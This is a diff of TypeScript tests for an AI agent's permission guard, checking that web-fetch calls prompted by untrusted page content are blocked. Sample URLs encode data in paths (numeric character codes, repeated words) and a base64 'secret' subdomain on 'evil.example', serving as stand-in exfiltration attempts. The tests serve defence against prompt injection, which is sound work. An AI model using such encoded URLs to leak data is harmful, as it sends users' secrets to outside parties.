@@ -214,6 +214,72 @@ test(
   },
 );
 
+const reader = defineTool({
+  ...{ name: "web_extract", toolset: "web", description: "", readOnly: true },
+  input: z.object({ url: z.string() }),
+  action: { name: "web.fetch", summary: "", readOnly: true },
+  argument: ({ url }) => ({ kind: "url", urls: [url] }),
+  execute: () => ({}),
+});
+
+test("an address of many known parts, or of numbers, spells nothing", async () => {
+  await using place = await temporaryPlace();
+  const permissions = place.open();
+  const pages = {
+    ...heard,
+    transcript: () => ({
+      person: [said],
+      untrusted: [
+        page,
+        "aaa bbb ccc ddd",
+        '<a href="/guide/parts/first/intro.html"> <a href="2024/05/12/news">',
+      ],
+    }),
+  };
+  const asks = async (path: string): Promise<boolean> => {
+    const call = { tool: reader, args: { url: `https://docs.example${path}` } };
+    return !(await permissions.guard(call, { ...testContext(), ...pages })).allow;
+  };
+
+  for (const path of [
+    "/aaa/bbb/ccc/ddd",
+    "/guide/aaa/bbb/aaa/bbb/aaa",
+    "/104/101/108",
+    "/guide/104/101/108/108/111",
+    "/guide?page=104&p=101&limit=108",
+  ])
+    expect([path, await asks(path)]).toEqual([path, true]);
+  for (const path of [
+    "/guide/parts/first/intro.html",
+    "/guide/2024/05/12/news",
+    "/guide/7",
+    "/guide?page=2&limit=50",
+    "/guide/faq.html",
+  ])
+    expect([path, await asks(path)]).toEqual([path, false]);
+});
+
+test("a host that nobody named is not looked up before somebody agrees, and is refused afterwards where it is private", async () => {
+  await using place = await temporaryPlace();
+  const looked: string[] = [];
+  const checkUrl = async (url: string, _: AbortSignal, { lookUp = true } = {}) => {
+    if (lookUp) looked.push(new URL(url).hostname);
+    return lookUp && url.includes("inner") ? "It is private." : undefined;
+  };
+  const ask = async (url: string, approve: ToolContext["approve"]) =>
+    await place
+      .open({ checkUrl })
+      .guard({ tool: reader, args: { url } }, { ...testContext(), ...heard, approve });
+
+  expect(await ask("https://c2VjcmV0.evil.example/", undefined)).toMatchObject({ allow: false });
+  expect(await ask("https://c2VjcmV0.evil.example/", personWho(no).approve)).toMatchObject({ allow: false });
+  expect(looked).toEqual([]);
+  expect(await ask("https://inner.example/", personWho(once).approve)).toMatchObject({ allow: false });
+  expect(await ask("https://good.example/", personWho(once).approve)).toMatchObject({ allow: true });
+  expect(await ask("https://docs.example/guide", undefined)).toMatchObject({ allow: true });
+  expect(new Set(looked)).toEqual(new Set(["inner.example", "good.example", "docs.example"]));
+});
+
 test.each(["ask", "accept-edits", "auto", "yolo"] as const)(
   "neither the mode %s nor a classifier allows what untrusted content asked for; a rule does",
   async (mode) => {
